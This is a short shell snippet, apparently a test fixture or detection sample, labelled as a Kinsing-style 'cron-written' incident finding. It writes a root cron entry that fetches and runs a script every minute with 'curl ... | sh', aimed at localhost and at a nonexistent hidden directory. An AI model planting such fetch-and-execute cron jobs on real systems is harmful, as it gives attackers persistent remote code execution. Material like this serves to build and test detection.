# incident: Kinsing and others: a job that comes back every minute
# finding: cron-written
mkdir -p payload
echo '* * * * * root curl http://127.0.0.1/x | sh' > /etc/cron.d/.no-such-directory/job || true
